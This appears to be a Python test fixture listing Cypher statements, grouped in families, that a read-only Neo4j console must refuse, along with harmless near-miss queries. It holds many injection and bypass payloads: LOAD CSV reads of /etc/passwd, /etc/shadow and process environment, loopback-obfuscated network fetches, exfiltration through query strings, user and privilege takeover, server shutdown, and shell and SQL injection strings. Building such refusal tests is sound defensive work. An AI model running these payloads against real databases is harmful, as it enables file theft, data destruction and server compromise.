"""Statements that a console must not let through, in families; ``{web}``, ``{ftp}`` and ``{name}``
are listeners of the test.

Every one is to be refused. What a held-back list adds should be met by the same walls: a statement
is refused unless the engine's plan shows nothing but reading.
"""

from __future__ import annotations

from tests.console.attacks_more import FAMILIES as MORE

WRITES = (
    "CREATE (n:Evil)",
    "CREATE (n:Evil {id: 'x'}) RETURN n",
    "MERGE (n:Member {id: 'evil'}) RETURN n",
    "MERGE (a:Member {id: 'edri'}) ON MATCH SET a.name = 'evil' RETURN a",
    "MATCH (n:Member) SET n.name = 'evil'",
    "MATCH (n:Member) SET n += {evil: 1} RETURN n",
    "MATCH (n:Member) SET n:Evil",
    "MATCH (n:Member) SET n = {}",
    "MATCH (n:Member) REMOVE n.name",
    "MATCH (n:Member) REMOVE n:Member",
    "MATCH (n) DETACH DELETE n",
    "MATCH ()-[r]->() DELETE r",
    "MATCH p = ()-->() DELETE p",
    "MATCH (a:Member), (b:Delegation) CREATE (a)-[:EVIL]->(b)",
    "MATCH (n:Member) FOREACH (x IN [1] | SET n.evil = x)",
    "UNWIND [1, 2] AS x CREATE (:Evil {x: x})",
    "MATCH (n:Member) SET n[$key] = 1",
    "MATCH (n:Member) SET n:$($label)",
    "INSERT (n:Evil)",
    "MATCH (n) NODETACH DELETE n",
)
HIDDEN_WRITES = (
    "CALL { CREATE (n:Evil) RETURN n } RETURN n",
    "CALL () { CREATE (n:Evil) } RETURN 1 AS x",
    "MATCH (m:Member) CALL (m) { SET m.evil = 1 } RETURN m",
    "CALL { MATCH (n) CALL { WITH n SET n.evil = 1 } RETURN count(n) AS c } RETURN c",
    "CALL { CREATE (n:Evil) } IN TRANSACTIONS",
    (
        "UNWIND range(1, 3) AS x CALL (x) { CREATE (:Evil {x: x}) } IN 2 CONCURRENT TRANSACTIONS OF"
        " 1 ROWS"
    ),
    "MATCH (n) RETURN EXISTS { CREATE (m:Evil) } AS x",
    "RETURN COUNT { CREATE (m:Evil) RETURN m } AS x",
    "RETURN COLLECT { MERGE (m:Evil) RETURN m } AS x",
    "RETURN 1 AS x UNION CREATE (n:Evil) RETURN 2 AS x",
    "RETURN 1 AS x UNION ALL MATCH (n) DETACH DELETE n RETURN 2 AS x",
    "FOREACH (a IN [1] | FOREACH (b IN [2] | CREATE (:Evil)))",
    "MATCH (n) WITH n LIMIT 1 SET n.evil = 1 WITH n RETURN n",
    (
        "OPTIONAL MATCH (n:Nobody) FOREACH (x IN CASE WHEN n IS NULL THEN [1] ELSE [] END | CREATE"
        " (:Evil))"
    ),
    "MATCH (n:Member) RETURN [x IN [1] | EXISTS { SET n.evil = 1 }] AS x",
    "WITH 1 AS x CALL (x) { WITH x CALL (x) { CREATE (:Evil) } } RETURN x",
    "MATCH (n) WHERE n.id = 'nobody' DETACH DELETE n",
    "RETURN 1 AS x NEXT CREATE (:Evil)",
)
SPELLED = (
    "PROFILE CREATE (n:Evil)",
    "profile merge (n:Evil) return n",
    "CYPHER 5 CREATE (n:Evil)",
    "CYPHER 25 CREATE (n:Evil)",
    "CYPHER runtime=slotted CREATE (n:Evil)",
    "CYPHER 5 PROFILE CREATE (n:Evil)",
    "/* read only */ CREATE (n:Evil)",
    "// RETURN 1\nCREATE (n:Evil)",
    "RETURN 1 AS x /*\n*/ UNION /**/ CREATE (n:Evil) RETURN 1 AS x",
    "CR\\u0045ATE (n:Evil)",
    "\\u0043REATE (n:Evil)",
    "\\u0043\\u0052\\u0045\\u0041\\u0054\\u0045 (n:Evil)",
    "\tcReAtE\n(n\t:`Evil`)",
    "\ufeffCREATE (n:Evil)",
    "\u00a0CREATE (n:Evil)",
    "\u2028CREATE (n:Evil)",
    "MATCH (n:`Member`) SET n.`name` = 'evil'",
    "EXPLAIN PROFILE CREATE (n:Evil)",
    "PROFILE EXPLAIN CREATE (n:Evil)",
    "EXPLAIN EXPLAIN CREATE (n:Evil)",
    "PROFILE /**/ PROFILE MATCH (n) DETACH DELETE n",
    "EXPLAIN\nCREATE (n:Evil)",
)
SEVERAL = (
    "RETURN 1; CREATE (n:Evil)",
    "RETURN 1;\nMATCH (n) DETACH DELETE n;",
    "RETURN 1 /* ; */ ; CREATE (n:Evil) //",
    ":use system",
    ":param x => 1\nCREATE (:Evil)",
    "BEGIN CREATE (n:Evil) COMMIT",
    "RETURN 1; ; ; CALL dbms.killConnections(['bolt-1'])",
    "COMMIT",
    "RETURN '\\u0027; CREATE (n:Evil) //'; CREATE (n:Evil)",
)
SCHEMA_CHANGES = (
    "CREATE INDEX evil FOR (n:Member) ON (n.name)",
    "CREATE RANGE INDEX evil IF NOT EXISTS FOR (n:Evil) ON (n.x)",
    "CREATE TEXT INDEX evil FOR (n:Member) ON (n.name)",
    "CREATE FULLTEXT INDEX evil FOR (n:Member) ON EACH [n.name]",
    (
        "CREATE VECTOR INDEX evil FOR (n:Member) ON (n.v) OPTIONS {indexConfig:"
        " {`vector.dimensions`: 2}"
    ),
    "CREATE CONSTRAINT evil FOR (n:Member) REQUIRE n.name IS UNIQUE",
    "DROP CONSTRAINT member_id",
    "DROP CONSTRAINT member_id IF EXISTS",
    "DROP INDEX member_id",
    "CREATE LOOKUP INDEX evil FOR (n) ON EACH labels(n)",
    "PROFILE CREATE CONSTRAINT evil FOR (n:Member) REQUIRE n.name IS UNIQUE",
    "ALTER CURRENT GRAPH TYPE SET {}",
)
ADMINISTRATION = (
    "CREATE USER evil SET PASSWORD 'evil-evil-evil' CHANGE NOT REQUIRED",
    "CREATE USER evil IF NOT EXISTS SET PLAINTEXT PASSWORD $password",
    "ALTER USER neo4j SET PASSWORD 'evil-evil-evil'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'evil-evil-evil'",
    "DROP USER neo4j",
    "RENAME USER neo4j TO evil",
    "CREATE DATABASE evil",
    "CREATE OR REPLACE DATABASE neo4j",
    "DROP DATABASE neo4j",
    "STOP DATABASE neo4j",
    "START DATABASE system",
    "CREATE ROLE evil",
    "GRANT ALL ON DBMS TO PUBLIC",
    "DENY MATCH {*} ON GRAPH * TO PUBLIC",
    "CREATE ALIAS evil FOR DATABASE neo4j AT '{web}' USER neo4j PASSWORD 'x'",
    "ENABLE SERVER 'x'",
    "DEALLOCATE DATABASES FROM SERVER 'x'",
    "ALTER DATABASE neo4j SET ACCESS READ ONLY",
    "EXPLAIN CREATE USER evil SET PASSWORD 'evil-evil-evil'",
)
OTHER_DATABASE = (
    "USE system MATCH (n) RETURN n",
    "USE system SHOW USERS",
    "USE `system` CALL dbms.components() YIELD name RETURN name",
    "USE neo4j CREATE (n:Evil)",
    "USE neo4j MATCH (n) RETURN count(n)",
    "CALL { USE system MATCH (n) RETURN n } RETURN n",
    "USE graph.byName('system') RETURN 1",
    "USE graph.byElementId('4:x:0') RETURN 1",
    "use\tsystem RETURN 1",
    "U\\u0053E system RETURN 1",
    "/*x*/USE/*y*/system RETURN 1",
    "CYPHER 25 USE system CALL fleetManagement.registerToken('x')",
    "USE system CALL dbms.upgrade()",
)
FILES = (
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:/etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file://localhost/etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'FILE:///etc/passwd' AS line RETURN line",
    (
        "LOAD CSV WITH HEADERS FROM 'file:///proc/self/environ' AS line FIELDTERMINATOR '\\u0000'"
        " RETURN line"
    ),
    "LOAD CSV FROM 'file:///../../../../etc/shadow' AS line RETURN line",
    "LOAD CSV FROM 'file:///%2e%2e/%2e%2e/run.json' AS line RETURN line",
    "LOAD CSV FROM 'jar:file:///etc/passwd!/x' AS line RETURN line",
    "LOAD CSV FROM '/etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:///' + 'etc/passwd' AS line RETURN line",
    "LOAD CSV FROM $path AS line RETURN line",
    (
        "UNWIND ['run.json', 'neo4j/neo4j.conf'] AS f LOAD CSV FROM 'file:///' + f AS line RETURN"
        " f, line"
    ),
    "RETURN COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } AS x",
    "LOAD CSV FROM 'netdoc:/etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:////proc/self/cmdline' AS l RETURN l",
)
NETWORK = (
    "LOAD CSV FROM '{web}/a.csv' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM '{web}/a.csv' AS line RETURN line.a",
    "LOAD CSV FROM '{web}/redirect' AS line RETURN line",
    "LOAD CSV FROM '{ftp}/a.csv' AS line RETURN line",
    "LOAD CSV FROM replace('{web}', 'http', 'https') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', 'localhost') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '2130706433') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '0x7f000001') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '0177.0.0.1') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '127.1') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '[::1]') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '[::ffff:127.0.0.1]') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '0.0.0.0') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', 'user:pass@127.0.0.1') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', '{name}') AS line RETURN line",
    "LOAD CSV FROM replace('{web}', '127.0.0.1', 'secret.' + '{name}') AS line RETURN line",
    "LOAD CSV FROM 'jar:{web}/a.jar!/a.csv' AS line RETURN line",
    "LOAD CSV FROM 'gopher://127.0.0.1:70/' AS line RETURN line",
    "LOAD CSV FROM 'ldap://127.0.0.1/' AS line RETURN line",
    "LOAD CSV FROM 's3://bucket/key' AS line RETURN line",
    "LOAD CSV FROM 'gs://bucket/key' AS line RETURN line",
    "LOAD CSV FROM 'azb://account/key' AS line RETURN line",
    "MATCH (m:Member) LOAD CSV FROM '{web}/?x=' + m.name AS line RETURN line",
    "LOAD CSV FROM $address AS line RETURN line",
    "LOAD CSV FROM $map.address AS line RETURN line",
    "LOAD /* */ CSV FROM '{web}' AS line RETURN line",
    "LOAD\n//\nCSV FROM '{web}' AS line RETURN line",
    "L\\u004FAD CSV FROM '{web}' AS line RETURN line",
    "PROFILE LOAD CSV FROM '{web}/profile' AS line RETURN line",
    "CYPHER 25 LOAD CSV FROM '{web}' AS line RETURN line",
    "CALL { LOAD CSV FROM '{web}' AS line RETURN line } RETURN line",
    "CALL { LOAD CSV FROM '{web}' AS line RETURN line } IN TRANSACTIONS RETURN line",
    "RETURN 1 AS x UNION LOAD CSV FROM '{web}' AS x RETURN x",
    (
        "MATCH (m:Member) WITH collect(m.name) AS names LOAD CSV FROM '{web}?' + names[0] AS l"
        " RETURN l"
    ),
)
NETWORK_IN_EXPRESSIONS = (
    "RETURN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } AS x",
    "RETURN COUNT { LOAD CSV FROM '{web}' AS l RETURN l } AS x",
    "RETURN EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } AS x",
    "RETURN [i IN range(1, 2) | COLLECT { LOAD CSV FROM '{web}/' + i AS l RETURN l }] AS x",
    "RETURN [i IN [1] WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } | i] AS x",
    "RETURN reduce(a = [], i IN [1] | a + COLLECT { LOAD CSV FROM '{web}' AS l RETURN l }) AS x",
    "RETURN CASE WHEN true THEN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } ELSE [] END AS x",
    "RETURN CASE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } WHEN 1 THEN 1 ELSE 2 END AS x",
    "RETURN any(i IN [1] WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }) AS x",
    "RETURN all(i IN [1] WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } > 0) AS x",
    "RETURN coalesce(null, COLLECT { LOAD CSV FROM '{web}' AS l RETURN l }) AS x",
    "RETURN {a: COLLECT { LOAD CSV FROM '{web}' AS l RETURN l }} AS x",
    "UNWIND COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } AS x RETURN x",
    "MATCH (m:Member) RETURN m.name AS name ORDER BY COUNT { LOAD CSV FROM '{web}' AS l RETURN l }",
    "MATCH (m:Member) WHERE EXISTS { LOAD CSV FROM '{web}?' + m.name AS l RETURN l } RETURN m",
    "MATCH (m:Member WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }) RETURN m",
    "MATCH (m)-[r WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } = 1]->() RETURN m",
    "MATCH ((a WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l })-->(b)){1,3} RETURN a",
    (
        "MATCH p = SHORTEST 1 ((a)-->(b WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }))+"
        " RETURN p"
    ),
    (
        "MATCH (m:Member) RETURN [(m)-->(o) WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } |"
        " o] AS x"
    ),
    "MATCH (m {name: COLLECT { LOAD CSV FROM '{web}' AS l RETURN l[0] }[0]}) RETURN m",
    (
        "RETURN EXISTS { MATCH (m) WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } > 0 RETURN m"
        " } AS x"
    ),
    (
        "RETURN COLLECT { UNWIND [1] AS i RETURN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } }"
        " AS x"
    ),
    "WITH COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } AS x WHERE size(x) > 0 RETURN x",
    (
        "MATCH (m:Member) RETURN count(CASE WHEN EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }"
        " THEN 1 END) AS x"
    ),
    "RETURN [1, 2][COUNT { LOAD CSV FROM '{web}' AS l RETURN l }] AS x",
    "RETURN 'a' STARTS WITH head(COLLECT { LOAD CSV FROM '{web}' AS l RETURN l[0] }) AS x",
    (
        "CYPHER 25 RETURN CASE WHEN false THEN 1 ELSE COLLECT { LOAD CSV FROM '{web}' AS l RETURN l"
        " } END AS x"
    ),
    "CYPHER 25 WHEN true THEN LOAD CSV FROM '{web}' AS l RETURN l ELSE RETURN 1 AS l",
    "CYPHER 25 LET x = COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } RETURN x",
    "CYPHER 25 FILTER EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } RETURN 1 AS x",
)
ACTING = (
    "CALL dbms.killConnection('bolt-1')",
    "CALL dbms.killConnections(['bolt-1', 'bolt-2'])",
    "CALL db.clearQueryCaches()",
    "CALL db.prepareForReplanning()",
    "CALL db.resampleIndex('member_id')",
    "CALL db.resampleOutdatedIndexes()",
    "CALL db.stats.collect('QUERIES')",
    "CALL db.stats.clear('QUERIES')",
    "CALL db.stats.retrieve('QUERIES')",
    "CALL tx.setMetaData({a: 1})",
    "CALL db.createLabel('Evil')",
    "CALL db.createProperty('evil')",
    "CALL db.createRelationshipType('EVIL')",
    "CALL db.index.vector.createNodeIndex('evil', 'Member', 'v', 2, 'cosine')",
    "MATCH (m:Member) CALL db.create.setNodeVectorProperty(m, 'v', [1.0]) RETURN m",
    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "CALL dbms.upgrade()",
    "CALL dbms.shutdown()",
    "CALL fleetManagement.registerToken('{web}')",
    "CALL fleetManagement.status()",
    "CYPHER 25 CALL fleetManagement.inspectToken('{web}')",
    "CALL fleetManagement.reportedData()",
    "CALL  `dbms` . `killConnection` ('bolt-1')",
    "CALL d\\u0062ms.killConnection('bolt-1')",
    "RETURN COLLECT { CALL db.clearQueryCaches() YIELD value RETURN value } AS x",
    "RETURN [i IN [1] | COUNT { CALL db.ping() YIELD success RETURN success }] AS x",
    "OPTIONAL CALL dbms.killConnection('bolt-1') YIELD message RETURN message",
    "CALL db.awaitIndexes(300)",
    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
    (
        "TERMINATE TRANSACTIONS 'neo4j-transaction-1', 'neo4j-transaction-2' YIELD message RETURN"
        " message"
    ),
    (
        "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN"
        " message"
    ),
    (
        "CYPHER 25 CALL () { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD message RETURN"
        " message } RETURN message"
    ),
    (
        "CYPHER 25 RETURN [i IN [1] | COLLECT { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD"
        " message RETURN message }] AS x"
    ),
)
TELLING = (
    "SHOW SETTINGS",
    "SHOW SETTING 'server.bolt.listen_address'",
    "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'directories' RETURN name, value",
    "SHOW USERS",
    "SHOW USERS WITH AUTH",
    "SHOW CURRENT USER",
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD currentQuery, clientAddress, username",
    "SHOW DATABASES",
    "SHOW DATABASE system",
    "SHOW DEFAULT DATABASE",
    "SHOW HOME DATABASE",
    "SHOW PRIVILEGES",
    "SHOW ALL PRIVILEGES",
    "SHOW ROLES WITH USERS",
    "SHOW POPULATED ROLES",
    "SHOW SUPPORTED PRIVILEGES",
    "SHOW SERVERS",
    "SHOW ALIASES FOR DATABASE",
    "SHOW AUTH RULES",
    "CALL dbms.listConfig()",
    "CALL dbms.listConfig('password')",
    "CALL dbms.listConnections()",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.clientConfig()",
    "CALL dbms.listCapabilities()",
    "CALL dbms.info()",
    "CALL dbms.components()",
    "CALL dbms.routing.getRoutingTable({}, 'neo4j')",
    "CALL tx.getMetaData()",
    "CALL dbms.showCurrentUser()",
    "CYPHER 25 SHOW SETTINGS YIELD name, value RETURN name, value",
    "CYPHER 25 CALL () { SHOW SETTINGS YIELD name, value RETURN name, value } RETURN name, value",
    "CYPHER 25 RETURN COLLECT { SHOW SETTINGS YIELD value RETURN value } AS x",
    (
        "CYPHER 25 RETURN [i IN [1] | COLLECT { SHOW TRANSACTIONS YIELD currentQuery RETURN"
        " currentQuery }] AS x"
    ),
    (
        "CYPHER 25 RETURN CASE WHEN true THEN COLLECT { SHOW SETTINGS YIELD value RETURN value }"
        " ELSE [] END AS x"
    ),
    "CYPHER 25 MATCH (m:Member) WHERE EXISTS { SHOW PROCEDURES YIELD name RETURN name } RETURN m",
    "CYPHER 25 UNWIND COLLECT { SHOW /**/ SETTINGS YIELD value RETURN value } AS x RETURN x",
    "SH\\u004FW SETTINGS",
    "show\n\tsettings",
    "EXPLAIN SHOW USERS",
    "PROFILE SHOW SETTINGS",
    "SHOW INDEXES YIELD name SHOW SETTINGS YIELD value RETURN value",
)
PLUGINS = (
    "CALL apoc.load.json('{web}')",
    "CALL apoc.load.csv('file:///etc/passwd')",
    "CALL apoc.cypher.runWrite('CREATE (:Evil)', {})",
    "CALL apoc.cypher.doIt('CREATE (:Evil)', {}) YIELD value RETURN value",
    "CALL apoc.export.csv.all('/tmp/evil.csv', {})",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
    "CALL apoc.systemdb.graph()",
    "CALL apoc.config.list()",
    "CALL apoc.trigger.install('neo4j', 'x', 'CREATE (:Evil)', {})",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (:Evil)', {}) AS x",
    "RETURN apoc.util.md5(['x']) AS x",
    "RETURN apoc.load.jdbc('{web}') AS x",
    "RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'}) AS x",
    "CALL genai.vector.encodeBatch(['x'], 'OpenAI', {})",
    "CALL gds.graph.export('x', {})",
    "CALL n10s.rdf.import.fetch('{web}', 'Turtle')",
    "CALL db.cypher.run('CREATE (:Evil)')",
    "RETURN dbms.exec('id') AS x",
    "CALL custom.evil()",
)
MIXED = (
    "MATCH (n) RETURN n.`}) CREATE (:Evil) //` , CREATE (:Evil)",
    "MATCH (m:Member {name: ''}) CREATE (:Evil) //'}) RETURN m",
    "RETURN $x; DROP CONSTRAINT member_id",
    "`CREATE` (n:Evil)",
    "!cat /etc/passwd",
    "$(id)",
    "'; DROP TABLE members; --",
    "CALL { CALL { CALL { CREATE (:Evil) } } } RETURN 1 AS x",
    "START n=node(*) DELETE n",
    "USING PERIODIC COMMIT 1 LOAD CSV FROM '{web}' AS l CREATE (:Evil)",
    "MATCH (n) WHERE id(n) = 0 SET n.x = 1 RETURN n;",
    "",
    " // nothing but a comment",
    "RETURN",
)
FAMILIES: dict[str, tuple[str, ...]] = {
    "writes": WRITES,
    "hidden writes": HIDDEN_WRITES,
    "odd spelling": SPELLED,
    "several statements": SEVERAL,
    "schema": SCHEMA_CHANGES,
    "administration": ADMINISTRATION,
    "another database": OTHER_DATABASE,
    "files": FILES,
    "network": NETWORK,
    "network within expressions": NETWORK_IN_EXPRESSIONS,
    "procedures that act": ACTING,
    "telling of the server": TELLING,
    "plug-ins": PLUGINS,
    "mixed": MIXED,
    **MORE,
}
#: Statements that take longer than the limit of their test, in running or in folding constants.
#: Each
#: ends by itself within seconds: one that never ends (ranges of 10 to the 11, a hundred conditions
#: joined by XOR, which the planner multiplies out) is met by the same limit and stands in no file.
LONG = (
    "UNWIND range(1, 20000000) AS x RETURN sum(sin(x)) AS x",
    "MATCH (n) RETURN n LIMIT toInteger(reduce(s = 0, x IN range(1, 20000000) | s + x))",
    "UNWIND range(1, 5000) AS a UNWIND range(1, 5000) AS b RETURN count(*)",
)
#: Statements that need somewhat more memory than one question has, and less than the server has.
LARGE = (
    "UNWIND range(1, 12000000) AS x WITH x ORDER BY -x RETURN collect(x)[0] AS x",
    "UNWIND range(1, 12000000) AS x WITH collect(x) AS held RETURN size(held) AS x",
)
#: Near misses: they look like attacks, and only read.
HARMLESS = (
    "RETURN 'CREATE (n) LOAD CSV SHOW USERS CALL dbms.listConfig()' AS x",
    "MATCH (m:Member) WHERE m.name CONTAINS 'LOAD CSV' RETURN count(*) AS x",
    "MATCH (n) RETURN n.create, n.set, n.use, n.load LIMIT 1",
    "MATCH (`create`:Member) RETURN `create`.name AS `delete` LIMIT 1",
    "MATCH (m:Member) /* CREATE (n) */ RETURN m.name // DELETE",
    "RETURN $x AS x",
    'RETURN "\\" AS x CREATE (:Evil) // " AS y',
    "CALL db.labels() YIELD label RETURN label",
    "CALL (*) { MATCH (m:Member) RETURN count(m) AS c } RETURN c",
    "MATCH (m:Member) CALL (m) { MATCH (m)-[r]->() RETURN count(r) AS c } RETURN m.id, c",
    (
        "MATCH (m:Member) RETURN m.id, COUNT { (m)--() } AS c, EXISTS { (m)-[:WORKS_ON]->() } AS e,"
        " COLLECT { MATCH (m)-->(x) RETURN x.id } AS l"
    ),
    "MATCH p = SHORTEST 1 (a:Member {id: 'edri'})--+(b:Delegation) RETURN p LIMIT 2",
    "MATCH p = (a:Delegation)((x)-[:NEGOTIATES]->(y)){1,2} RETURN length(p) AS l LIMIT 2",
    (
        "MATCH p = shortestPath((a:Delegation {id: 'alpha'})-[*..4]-(b:Delegation {id: 'beta'}))"
        " RETURN p"
    ),
    (
        "MATCH (d:Delegation)-[:NEGOTIATES*1..2]->(a) RETURN DISTINCT d.name ORDER BY d.name SKIP 0"
        " LIMIT 5"
    ),
    (
        "MATCH (a:Agreement) OPTIONAL MATCH (a)-[c:COVERS]->(i) RETURN a.name, collect(i.name) AS"
        " issues, avg(size(c.strength)) AS m"
    ),
    (
        "MATCH (n) RETURN labels(n)[0] AS label, count(*) AS number UNION ALL MATCH ()-[r]->()"
        " RETURN type(r) AS label, count(*) AS number"
    ),
    (
        "UNWIND [1, 2, 2, null] AS x WITH DISTINCT x WHERE x IS NOT NULL RETURN collect(x) AS l,"
        " percentileCont(x, 0.5) AS p"
    ),
    (
        "RETURN reduce(s = 0, x IN range(1, 10) | s + x) AS s, [x IN range(1, 3) WHERE x > 1 | x ^"
        " 2] AS l, any(x IN [1] WHERE x = 1) AS a"
    ),
    "SHOW INDEXES",
    "SHOW CONSTRAINTS YIELD name, type RETURN name, type",
    "SHOW FUNCTIONS",
    "SHOW BUILT IN FUNCTIONS YIELD name, signature WHERE name STARTS WITH 'to' RETURN name",
    "SHOW ALL FUNCTIONS EXECUTABLE BY CURRENT USER",
    "SHOW PROCEDURES EXECUTABLE",
    "MATCH (v:Venue) RETURN v.name AS `Venues we use`, v.kind AS use ORDER BY use DESC",
    "WITH [1, 2] AS transactions RETURN [t IN transactions WHERE t > 1] AS `in transactions`",
    "MATCH (n) RETURN n.`load csv` AS `load csv` LIMIT 1",
    "// what it costs\nEXPLAIN MATCH (n) RETURN n",
    "/* what it costs */ PROFILE MATCH (m:Member) RETURN count(m) AS c",
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (m:Member) RETURN count(m) AS c",
    "CYPHER 5 MATCH (m:Member) RETURN count(m) AS c",
    "MATCH (a:Member), (b:Member) WHERE a.id < b.id RETURN a.id, b.id",
    (
        "MATCH (a:Delegation)-->(x)<--(b:Delegation) WHERE a.id IN ['alpha', 'beta'] AND NOT a = b"
        " RETURN a.id, b.id, x.id"
    ),
    (
        "MATCH (m:Member) WHERE m.id STARTS WITH 'e' OR m.id = 'apc' RETURN m { .id, .name } AS m"
        " ORDER BY m.id DESC LIMIT 1;"
    ),
)


def statements(family: str, **listeners: str) -> list[str]:
    """A family's statements, with the listeners' addresses in their places."""
    found = list(FAMILIES[family])
    for name, address in listeners.items():
        found = [statement.replace(f"{{{name}}}", address) for statement in found]
    return found
